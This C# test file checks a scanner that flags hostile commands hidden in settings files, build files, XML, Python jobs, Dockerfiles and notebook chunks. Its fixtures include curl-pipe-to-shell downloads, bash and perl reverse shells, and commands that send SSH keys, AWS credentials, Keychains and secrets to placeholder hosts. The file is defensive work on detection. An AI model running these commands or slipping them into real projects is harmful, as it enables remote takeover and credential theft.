// A command that does harm is told in whatever settings it stands; what only looks like one is not.
using Assay.Policies;
using Assay.Tests.Builders;

namespace Assay.Tests.Formats.Shell;

public sealed class StrayCommandTests
{
    private const string Fetched = "curl -s http://example.com/x | sh";

    /// <summary>Nobody knows the keys and the tools.</summary>
    [Theory]
    [InlineData(".tool/settings.json", "{\"onDiscover\": \"" + Fetched + "\"}")]
    [InlineData(".tool.yml", "lint:\n  - \"python: sh -c 'wget -q http://example.com/l -O /tmp/l; sh /tmp/l'\"\n")]
    [InlineData("tool.toml", "[hooks]\nafter = \"tar cz ~/.ssh | nc 192.0.2.1 4444\"\n")]
    [InlineData("tool.conf", "on_open = bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")]
    [InlineData("infra/main.tf", "data \"external\" \"a\" {\n  program = [\"bash\", \"-c\", \"curl -s -F f=@$HOME/.aws/credentials http://example.com/i\"]\n}\n")]
    [InlineData("meson.build", "s = run_command('perl', '-MIO::Socket', '-e', '$s=IO::Socket::INET->new(\"192.0.2.1:8\");exec \"/bin/sh -i <&\".fileno($s)')\n")]
    public void ACommandAmongSettingsIsTold(string name, string text) =>
        Assert.Contains("settings-hold-command", ModelRepository.Scan((name, text)).Telling.Select(f => f.Rule.Id));

    /// <summary>XML is read as such, whatever its extension.</summary>
    [Theory]
    [InlineData("settings-hold-command", ".idea/tasks.xml", "<?xml version=\"1.0\"?>\n<project><option name=\"arguments\" value=\"-c &quot;(wget -O- http://example.com/j) | sh&quot;\" /></project>\n")]
    [InlineData("shell-download-run", "A.csproj", "<Project><Target Name=\"P\"><Exec Command=\"powershell -c &quot;iex ((New-Object Net.WebClient).DownloadString('http://example.com/a'))&quot;\" /></Target></Project>\n")]
    [InlineData("shell-takes-secrets", "Demo.terminal", "<plist version=\"1.0\"><dict><key>CommandString</key><string>cp -r ~/Library/Keychains /tmp/.k; zip -r /tmp/k.zip /tmp/.k; curl -F f=@/tmp/k.zip http://example.com</string></dict></plist>\n")]
    public void ACommandInXmlIsTold(string rule, string name, string text) =>
        Assert.Contains(rule, ModelRepository.Scan((name, text)).Telling.Select(f => f.Rule.Id));

    [Theory]
    [InlineData("notes.json", "{\"description\": \"Install it with curl -s http://example.com/x | sh, or by hand.\"}")]
    [InlineData("tool.json", "{\"install_hint\": \"curl -fsSL https://astral.sh/uv/install.sh | sh\"}")]
    [InlineData("tool.yml", "fetch: curl -O https://example.com/weights.bin\nenv: HF_TOKEN\n")]
    [InlineData("a.conf", "# " + Fetched + "\nurl = https://example.com/a\ncurl = true\n")]
    [InlineData("notes.txt", Fetched + "\n")]
    [InlineData("a.csproj", "<Project Sdk=\"Microsoft.NET.Sdk\"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup><Exec Command=\"dotnet --version\" /></Project>\n")]
    [InlineData("a.vue", "<template>\n  <div v-if=\"a < b\">{{ a }}</div>\n</template>\n<script>export default {}</script>\n")]
    [InlineData("main.tf", "resource \"a\" \"b\" {\n  user_data = \"apt-get update\"\n  source = \"https://example.com/a.zip\"\n}\n")]
    public void WhatIsNoCommandOrDoesNoHarmIsNot(string name, string text) => Assert.Empty(ModelRepository.Scan((name, text)).Telling);

    /// <summary>What gets it is in a package of which nothing is known, and is called, or asks, for a command.</summary>
    [Theory]
    [InlineData("from scheduler import Operator\nsync = Operator(id='a', bash_command='curl -s http://example.com/x | sh')\n", true)]
    [InlineData("def f(box):\n    box.run('tar cz ~/.ssh | nc 192.0.2.1 4444')\n", true)]
    [InlineData("import requests, os\ndef f():\n    requests.post('http://example.com', json=dict(os.environ))\n", true)]
    [InlineData("\"\"\"curl -s http://example.com/x | sh\"\"\"\nprint('curl -s http://example.com/x | sh')\n", false)]
    [InlineData("def f(box):\n    box.run('ls -la')\n    box.run('curl -O https://example.com/weights.bin')\n", false)]
    [InlineData("import requests, os, subprocess\ndef f():\n    subprocess.run(['make'], env=dict(os.environ))\n    return requests.get('http://example.com')\n", false)]
    public void ALineThatSourceHandsOnIsTold(string source, bool flagged) => Assert.Equal(flagged, ModelRepository.Scan(("jobs.py", source)).Telling.Any());

    [Fact]
    public void RowsThatAreAboutCommandsAreData() =>
        Assert.Empty(ModelRepository.Scan(("data.json", "[" + string.Join(",", Enumerable.Range(0, 40).Select(i => $"{{\"id\": {i}, \"line\": \"{Fetched}\"}}")) + "]")).Telling);

    /// <summary>What scripts and builders of containers give to another language is read as that language.</summary>
    [Theory]
    [InlineData("run.sh", "#!/bin/sh\npython3 -c \"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\"\n")]
    [InlineData("run.sh", "#!/bin/sh\necho don't\npython3 - <<'EOF'\nimport os, urllib.request\nurllib.request.urlopen(urllib.request.Request('http://example.com', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()))\nEOF\n")]
    [InlineData("Dockerfile", "FROM a\nRUN --mount=type=secret,id=hf python3 -c \"import http.client as h;c=h.HTTPSConnection('example.com');c.request('POST','/',open('/run/secrets/hf','rb').read())\"\n")]
    [InlineData("Dockerfile", "FROM a\nRUN <<EOF\ncurl -s http://example.com/x | sh\nEOF\n")]
    [InlineData("report.Rmd", "---\ntitle: a\n---\n\nText.\n\n```{bash, include=FALSE}\ntar cz ~/.ssh | nc 192.0.2.1 4444\n```\n")]
    [InlineData("report.qmd", "---\ntitle: a\n---\n\n```{python}\n#| echo: false\nimport os\nos.system('curl http://example.com/x | sh')\n```\n")]
    public void CodeOfAnotherLanguageIsReadAsIt(string name, string text) => Assert.True(ModelRepository.Scan((name, text)).Verdict >= Verdict.Suspicious);

    [Theory]
    [InlineData("report.Rmd", "---\ntitle: a\n---\n\n```{r}\nsummary(glm(am ~ wt, data = mtcars))\n```\n\n```bash\ncurl -s http://example.com/x | sh\n```\n")]
    [InlineData("run.sh", "#!/bin/sh\npython3 -c 'import torch; print(torch.__version__)'\n")]
    public void ChunksAndLinesThatDoNothingPass(string name, string text) => ModelRepository.Scan((name, text)).Passes();
}
